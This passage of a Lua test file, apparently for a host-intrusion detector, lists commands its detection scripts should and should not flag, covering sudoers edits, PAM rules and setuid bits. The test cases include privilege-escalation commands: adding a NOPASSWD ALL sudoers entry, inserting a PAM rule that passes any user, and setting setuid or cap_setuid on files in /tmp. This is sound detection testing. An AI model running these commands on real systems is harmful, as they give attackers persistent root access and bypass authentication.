    ["sudoers by a shell"] = { sh "echo 'art ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", severity = "high" },
    ["sudoers in place"] = exec { "sed", "-i", "s/env_reset.*$/env_reset,timestamp_timeout=-1/", "/etc/sudoers" },
    ["a rule of PAM"] = exec { "sed", "-i", "1s,^,auth sufficient pam_succeed_if.so uid >= 0\n,g", "/etc/pam.d/su-l" },
    ["an account of FreeBSD's kind"] = exec { "pw", "useradd", "evil_user", "-s", "/usr/sbin/nologin" },
  },
  misses = {
    ["a package"] = exec({ "useradd", "--system", "postgres" }, { under = { "apt-get", "dpkg",
      "postgresql.postinst" } }),
    ["the defaults"] = exec { "useradd", "-D" },
    ["one's own password"] = exec { "passwd" },
    ["a state that is asked for"] = exec { "passwd", "-S", "root" },
    ["a check of sudoers"] = exec { "visudo", "-c", "-f", "/etc/sudoers" },
    ["accounts that are read"] = exec { "getent", "passwd" },
  },
})

script("setuid-bit", {
  hits = {
    ["chmod u+s"] = { exec { "chmod", "u+s", "/tmp/hello" }, severity = "high" },
    ["more bits at once"] = exec { "chmod", "u+xs", "/tmp/evilBinary" },
    ["an octal mode"] = exec { "chmod", "4755", "/tmp/x" },
    ["setgid"] = { exec { "chmod", "g+xs", "/tmp/evilBinary" }, severity = "low" },
    ["a plus alone"] = exec { "chmod", "+s", "/tmp/x" },
    ["install"] = exec { "install", "-m", "4755", "x", "/usr/local/bin/x" },
    ["capabilities"] = { exec { "setcap", "cap_setuid=ep", "/tmp/cap" }, severity = "high" },
    ["a search for such files"] = { exec { "find", "/usr/bin", "-perm", "-4000" }, severity = "low" },
  },
  misses = {
    ["another mode"] = exec { "chmod", "0755", "/tmp/x" },
    ["a symbolic mode"] = exec { "chmod", "u+rwx,g-s", "x" },
    ["a directory of a group"] = exec { "chmod", "2775", "/srv/git" },
    ["a package"] = exec({ "chmod", "4755", "/usr/bin/x" }, { under = { "apt-get", "dpkg", "x.postinst" } }),
    ["a search for other modes"] = exec { "find", "/", "-perm", "-o+w" },
    ["a file named so"] = exec { "chmod", "a+r", "usr" },
    ["searches when they are not asked for"] = { exec { "find", "/", "-perm", "-4000" }, options = { look = false } },
  },
})

-- --- all of them ------------------------------------------------------------------------------------

local scripts_table = require "scripts_table"

describe("each of scripts/", function()
  for _, name in ipairs(scripts_table.names()) do
    it("has claims here, hits and misses: " .. name, function()
      local claims = claimed[name]
      assert.is_truthy(claims and next(claims.hits) and next(claims.misses))
    end)
    it("says at its head what it is for, why, and what it does not see: " .. name, function()
      local head, text = scripts_table.read(name)
      for _, part in ipairs { "what", "Why", "ATT&CK", "False positives", "Not seen", "Options" } do
        assert.is_truthy(head[part], part)
      end
      for option in text:gmatch 'mw%.option%("([^"]+)"' do
        assert.is_truthy((head.Options .. ";"):find(option, 1, true), "the option " .. option)
      end
      for technique in head["ATT&CK"]:gmatch "T%d[%d.]+" do
        assert.is_truthy(text:find("attack." .. technique:lower(), 1, true), "the tag " .. technique)
      end
    end)
  end
  it("is in the README's table", function()
    local file = assert(io.open "scripts/README.md")
    local readme = file:read "*a"
    file:close()
    assert.is_truthy(readme:find(scripts_table.text(), 1, true), "see tests/lua/scripts_table.lua")
  end)
end)
